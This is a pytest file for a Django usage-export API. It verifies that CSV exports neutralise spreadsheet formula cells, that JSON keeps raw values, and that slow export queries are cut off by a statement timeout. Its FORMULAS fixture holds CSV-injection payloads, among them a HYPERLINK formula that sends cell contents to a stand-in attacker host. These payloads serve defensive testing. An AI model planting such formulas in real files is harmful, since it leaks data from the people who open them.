"""Exports are safe to open and cannot hold the database (issue 14, item 9): CSV cells that a
spreadsheet would run as a formula are neutralised (OWASP: a leading '), JSON and NDJSON keep
the value as it is; an export's query stops at LLMAAS_EXPORT_STATEMENT_TIMEOUT_MS."""

from __future__ import annotations

import csv
import io
import json
import time
from decimal import Decimal

import pytest
from django.db import DatabaseError, connection
from django.utils import timezone

from usage import apis
from usage.models import RequestLog
from usage.rollups import deltas_insert

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def _log(key, end_user: str, model: str = "alpha") -> None:
    log = RequestLog.objects.create(
        call_id=f"c-{time.time_ns()}",
        org_id=key.organization_id,
        key_id=key.id,
        model=model,
        prompt_tokens=1,
        completion_tokens=1,
        cost=Decimal("0.001"),
        latency_ms=1,
        status="success",
        stream=False,
        end_user=end_user,
        created_at=timezone.now(),
    )
    with connection.cursor() as cursor:  # with its deltas, as the ingest writes it
        cursor.execute(deltas_insert("(SELECT * FROM request_logs WHERE id = %s) AS one"), [log.id])


def _body(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_it_neutralises_formula_cells_in_csv_exports_and_keeps_json_as_is(team, api):
    key = team.keys["alice"]
    for value in FORMULAS:
        _log(key, value, model=value if value[0] in "=@" else "alpha")
    client = api(team.people["alice"], team.org)

    logs = list(csv.DictReader(io.StringIO(_body(client.get("/api/usage/logs/export", {"format": "csv"})))))
    assert sorted(r["end_user"] for r in logs) == sorted("'" + v for v in FORMULAS)
    assert {r["model"] for r in logs} == {"alpha", "'" + FORMULAS[0], "'" + FORMULAS[3]}
    assert all(r["cost_usd"] == "0.0010000000" for r in logs)  # numbers stay numbers

    start = (timezone.now() - timezone.timedelta(days=1)).isoformat()
    end = (timezone.now() + timezone.timedelta(hours=1)).isoformat()
    params = {"start": start, "end": end, "granularity": "total", "group_by": "end_user"}
    summary = csv.DictReader(io.StringIO(_body(client.get("/api/usage/summary/export", {**params, "format": "csv"}))))
    assert sorted(r["group"] for r in summary) == sorted("'" + v for v in FORMULAS)

    as_json = json.loads(_body(client.get("/api/usage/logs/export", {"format": "json"})))
    assert sorted(r["end_user"] for r in as_json) == sorted(FORMULAS)
    ndjson = _body(client.get("/api/usage/summary/export", {**params, "format": "ndjson"}))
    assert sorted(json.loads(line)["group"] for line in ndjson.splitlines()) == sorted(FORMULAS)


def test_it_stops_an_export_whose_query_runs_past_the_statement_timeout(team, api, settings, monkeypatch):
    settings.EXPORT_STATEMENT_TIMEOUT_MS = 200

    def slow(self, ctx, data, csv, params):  # a query that would hold its connection for 5 s
        return "SELECT pg_sleep(5)::text AS slept"

    monkeypatch.setattr(apis.UsageLogsExportApi, "select", slow)
    response = api(team.people["alice"], team.org).get("/api/usage/logs/export", {"format": "csv"})
    with pytest.raises(DatabaseError, match="statement timeout"):  # cancelled by PostgreSQL, not waited out
        b"".join(response.streaming_content)
    with connection.cursor() as cursor:  # the setting was local to the export's transaction
        cursor.execute("SHOW statement_timeout")
        assert cursor.fetchone()[0] == "0"


def test_an_export_cut_mid_stream_is_logged_and_aborted_not_ended_cleanly(team, api, settings, monkeypatch, caplog):
    """The 200 and the first rows are sent when the timeout strikes: the stream must then break
    (the client sees an incomplete transfer), never end as if the export were complete."""
    settings.EXPORT_STATEMENT_TIMEOUT_MS = 500

    def rows_then_stall(self, ctx, data, csv, params):
        return "SELECT g::text AS n FROM generate_series(1, 100000) g UNION ALL SELECT pg_sleep(5)::text"

    monkeypatch.setattr(apis.UsageLogsExportApi, "select", rows_then_stall)
    response = api(team.people["alice"], team.org).get("/api/usage/logs/export", {"format": "ndjson"})
    assert response.status_code == 200
    received = []
    with caplog.at_level("ERROR", logger="usage.exports"), pytest.raises(DatabaseError):
        for chunk in response.streaming_content:
            received.append(chunk)
    assert received  # rows went out before the cut
    assert any("export cut" in r.getMessage() for r in caplog.records)
